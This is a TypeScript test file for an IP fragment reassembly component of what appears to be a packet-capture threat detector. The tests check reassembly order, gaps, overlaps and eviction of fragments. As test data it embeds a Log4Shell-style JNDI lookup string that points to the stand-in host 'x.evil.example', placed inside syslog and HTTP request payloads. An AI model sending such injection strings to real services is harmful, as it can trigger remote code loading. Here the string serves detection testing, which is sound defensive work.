import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type PacketRecipe, pcapOf } from '../../../test/kit/captures.ts'
import { contained } from '../../../test/kit/hunting.ts'
import { type Fragment, Fragments } from './fragments.ts'

const attack = '${jndi:ldap://x.evil.example:1389/a}'
const whole = {
  from: '203.0.113.9',
  to: '10.0.0.4',
  fromPort: 40_001,
  toPort: 514,
  transport: 'udp',
  payload: `<1>${attack}`,
} as const
const size = 8 + whole.payload.length

/** The packet in parts that end at these bytes of it. */
function inParts(packet: PacketRecipe, id: number, ...ends: readonly number[]): readonly PacketRecipe[] {
  return ends.map((to, i) => ({ ...packet, fragment: { id, from: ends[i - 1] ?? 0, to } }))
}

describe('fragments of a datagram in a capture', () => {
  const [first, second, last] = inParts(whole, 7, 8, 24, size) as [PacketRecipe, PacketRecipe, PacketRecipe]

  test.each<readonly [string, readonly PacketRecipe[]]>([
    ['in their order', [first, second, last]],
    ['in another order', [last, first, second]],
    ['sent twice', [first, first, second, second, last]],
    ['between those of another', [first, ...inParts({ ...whole, payload: 'x'.repeat(40) }, 8, 16, 48), second, last]],
    ['of IPv6', inParts({ ...whole, from: '2001:db8::9', to: '2001:db8::4' }, 7, 8, 24, size)],
  ])('are put together: %s', (_case, packets) => {
    const { findings, gaps } = contained(pcapOf(packets))

    expect(findings.map(({ lookup }) => lookup.host)).toEqual(['x.evil.example'])
    expect(gaps).toEqual([])
  })

  test('are a gap with their number and place where some were not captured', () => {
    const { findings, gaps } = contained(pcapOf([first, last, whole]))

    expect(findings).toHaveLength(1)
    expect(gaps).toMatchObject([
      {
        because: 'truncated',
        detail: expect.stringMatching(
          /^2 fragments of IP datagrams whose others were not captured, from here on/,
        ) as string,
      },
    ])
  })

  test('are a gap where they say something else than what came first, which counts', () => {
    const other = { ...first, payload: whole.payload.replaceAll('j', 'J'), fragment: { id: 7, from: 0, to: 24 } }
    const { findings, gaps } = contained(pcapOf([first, second, other, last]))

    expect(findings.map(({ lookup }) => lookup.host)).toEqual(['x.evil.example'])
    expect(gaps).toMatchObject([
      { because: 'malformed', detail: expect.stringMatching(/^1 fragments? of IP/) as string },
    ])
  })

  test('of TCP are put together before the stream is', () => {
    const packet = {
      ...whole,
      transport: 'tcp',
      toPort: 80,
      flags: ['ack'],
      payload: `GET /${attack} HTTP/1.1\r\nHost: a\r\n\r\n`,
    } as const
    const { findings } = contained(pcapOf(inParts(packet, 9, 32, 20 + packet.payload.length)))

    expect(findings.map(({ lookup }) => lookup.host)).toEqual(['x.evil.example'])
  })
})

test('whatever the parts and their order, the datagram is what was sent, and comes with its last part', () => {
  const cuts = fc.uniqueArray(fc.integer({ min: 1, max: 30 }), { maxLength: 8 })
  fc.assert(
    fc.property(
      fc.uint8Array({ minLength: 249, maxLength: 256 }),
      cuts,
      fc.infiniteStream(fc.nat()),
      (bytes, at, order) => {
        const ends = [...at.toSorted((a, b) => a - b).map((cut) => 8 * cut), bytes.length]
        const parts = ends.map((end, i): Fragment => {
          const from = ends[i - 1] ?? 0
          const common = { is: 'fragment', key: 'k', from: 'a', to: 'b', protocol: 17 } as const
          return { ...common, at: from, hasMore: end < bytes.length, bytes: bytes.subarray(from, end) }
        })
        const shuffled = parts
          .map((part) => ({ part, place: order.next().value as number }))
          .toSorted((a, b) => a.place - b.place)
          .map(({ part }) => part)
        const lost: number[] = []
        const fragments = new Fragments((_why, offsets) => lost.push(...offsets))
        const given = shuffled.map((part, i) => fragments.take(part, i))
        fragments.end()

        expect(given.slice(0, -1).every((each) => each === null)).toBe(true)
        expect(given.at(-1)?.bytes).toEqual(bytes)
        expect(lost).toEqual([])
      },
    ),
    { numRuns: 200 },
  )
})

test('parts that overlap cost what they are long, and complete nothing before the last hole is filled', () => {
  const common = { is: 'fragment', key: 'k', from: 'a', to: 'b', protocol: 17 } as const
  const lost: number[] = []
  const fragments = new Fragments((_why, offsets) => lost.push(...offsets))
  const bytes = new Uint8Array(65_528 - 16).fill(1)
  for (let i = 0; i < 500; i++) expect(fragments.take({ ...common, at: 16, hasMore: false, bytes }, i)).toBeNull()
  for (let i = 0; i < 500; i++)
    expect(fragments.take({ ...common, at: 0, hasMore: true, bytes: bytes.subarray(0, 8) }, i)).toBeNull()

  const whole = fragments.take({ ...common, at: 8, hasMore: true, bytes: bytes.subarray(0, 8) }, 1_000)
  expect(whole?.bytes).toEqual(new Uint8Array(65_528).fill(1))
  expect(lost).toEqual([])
})

test('of more than can be kept the oldest are given up, and their places told', () => {
  const lost: number[] = []
  const fragments = new Fragments((_why, offsets) => lost.push(...offsets))
  const part = {
    is: 'fragment',
    from: 'a',
    to: 'b',
    protocol: 17,
    at: 0,
    hasMore: true,
    bytes: new Uint8Array(8),
  } as const
  for (let i = 0; i < 600; i++) fragments.take({ ...part, key: `${i}` }, i)

  expect(lost).toEqual(Array.from({ length: 344 }, (_, i) => i))
  fragments.take({ ...part, key: 'impossible', at: 65_528, bytes: new Uint8Array(16) }, 1_000)
  expect(lost.at(-1)).toBe(1_000)
  fragments.end()
  expect(lost).toHaveLength(601)
})
